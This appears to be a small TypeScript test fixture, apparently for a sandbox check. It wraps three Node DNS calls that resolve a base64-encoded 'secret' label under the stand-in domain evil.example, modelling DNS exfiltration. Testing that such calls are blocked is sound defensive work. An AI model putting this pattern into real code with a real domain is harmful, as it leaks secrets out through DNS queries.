import dns from 'node:dns/promises';
import { firstThatWorks, hostile } from './hostile.mts';
export default hostile(() =>
  firstThatWorks([
    () => dns.lookup('c2VjcmV0.evil.example'),
    () => dns.resolveTxt('c2VjcmV0.evil.example'),
    () => new dns.Resolver().resolve4('c2VjcmV0.evil.example'),
  ]),
);
